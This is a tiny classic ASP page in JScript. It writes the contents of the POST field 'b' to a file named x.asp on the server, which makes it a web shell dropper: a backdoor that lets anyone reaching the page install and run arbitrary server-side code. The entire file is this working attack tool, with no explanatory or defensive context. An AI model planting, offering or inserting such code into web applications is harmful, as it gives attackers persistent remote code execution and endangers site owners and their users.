<%@ Language="JScript" %>
<%
var fs = new ActiveXObject("Scripting.FileSystemObject");
var body = Request.Form("b");
var f = fs.CreateTextFile(Server.MapPath("x" + ".asp"), true);
f.Write(body);
f.Close();
%>
